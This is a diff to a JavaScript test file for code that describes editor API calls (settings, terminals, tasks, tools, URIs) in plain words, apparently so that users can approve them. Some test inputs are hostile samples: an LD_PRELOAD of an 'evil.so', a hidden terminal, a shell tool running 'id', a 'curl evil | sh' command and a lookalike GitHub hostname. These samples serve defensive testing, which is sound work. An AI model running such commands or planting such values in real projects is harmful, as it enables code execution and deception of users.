@@ -8,7 +8,7 @@ const would = (method, args, about = JSON.stringify(args)) => effect({ kind: "vs
 test("a question says what would happen", () => {
   for (const [method, args, expected] of [
     ["$updateConfigurationOption", [2, "editor.fontSize", 12], "set “editor.fontSize” to 12"],
-    ["$updateConfigurationOption", [5, "a.b", "x"], "set “a.b” of the workspace to x"],
+    ["$updateConfigurationOption", [5, "a.b", "x"], "set “a.b” of the workspace to “x”"],
     ["$removeConfigurationOption", [null, "a.b"], "take back what is set for “a.b”"],
     ["$executeCommand", ["git.checkout", ["main"]], "run the command “git.checkout” with [\"main\"]"],
     ["$executeCommand", ["git.fetch", []], "run the command “git.fetch”"],
@@ -22,6 +22,10 @@ test("a question says what would happen", () => {
     ["$createTerminal", ["id", { name: "Build", env: { LD_PRELOAD: "/w/evil.so" } }], 'open a terminal “Build”, with the variables {"LD_PRELOAD":"/w/evil.so"}'],
     ["$executeTask", [{ id: "user.deploy", workspaceFolder: {}, name: "test", execution: { commandLine: "npm test" } }], "run the task “user.deploy” as it is defined"],
     ["$executeTask", [{ name: "test", execution: { commandLine: "npm test", options: { executable: "/w/evil" } } }], 'run the task “test”, which starts “{"commandLine":"npm test","options":{"executable":"/w/evil"}}”'],
+    ["$sendText", [1, "make\r", false], "type “make\\x0d” into a terminal and run it"],
+    ["$createTerminal", ["id", { name: "Build", hideFromUser: true }], "open a terminal that you do not see “Build”"],
+    ["$updateConfigurationOption", [2, "a.b", "14 (this takes: nothing). “c”"], 'set “a.b” to “14 (this takes: nothing). "c"”'],
+    ["$invokeTool", [{ toolId: "shell", parameters: { command: "id" } }], 'run the tool “shell” with {"command":"id"}'],
     ["$openUri", [{ scheme: "https", authority: "a.example", path: "/x", query: "y" }, "https://good.example", {}], "open “https://a.example/x?y” outside the editor"],
     ["$getSession", ["github", ["repo", "user"]], "sign in as you at “github” for “repo user”"],
   ])
@@ -34,9 +38,17 @@ test("what counts is shown where a call says it in several ways", () => {
 
 test("what is in another shape, cut off or unknown is not made up", () => {
   for (const [method, args] of [["$openUri", [null]], ["$createTerminal", [1]], ["$executeTask", []], ["$unknown", []], ["constructor", []]]) assert.equal(would(method, args), undefined, method);
-  assert.equal(would("$updateConfigurationOption", [], '[2,"a.b","xxx…'), undefined);
-  assert.equal(would("$executeCommand", [], '["git.x",["yyy…'), 'run a command: ["git.x",["yyy…');
+  assert.equal(would("$updateConfigurationOption", [], '[2,"a.b","xxx…'), 'call updateConfigurationOption with [2,"a.b","xxx……, which is too long to be shown');
+  assert.equal(would("$executeCommand", [], '["git.x",["yyy…'), 'run a command: ["git.x",["yyy……, which is too long to be shown');
   assert.equal(effect({ kind: "read", detail: "MainThreadFileSystem.$readFile", about: "[]" }), undefined);
+});
+
+test("what is cut says so, and not whose address it is", () => {
+  const long = `npm test ${"-".repeat(200)} && curl evil | sh ${"-".repeat(200)} --watch`;
+  assert.match(would("$sendText", [1, long, true]), /^type “npm test .*…-*.* --watch” \(\d+ characters, not all shown\) into a terminal and run it$/);
+  const host = `github.com.${"a".repeat(60)}.evil.example`;
+  assert.ok(would("$openUri", [{ scheme: "https", authority: host, path: `/${"x".repeat(100)}/login` }]).includes(`“https://${host}/`));
+  assert.equal(effect({ kind: "vscode", detail: "ExtHostLanguageModelTools.$invokeTool", about: "[{}]" }), "run its tool for a chat");
 });
 
 test("texts of others are escaped", () => {
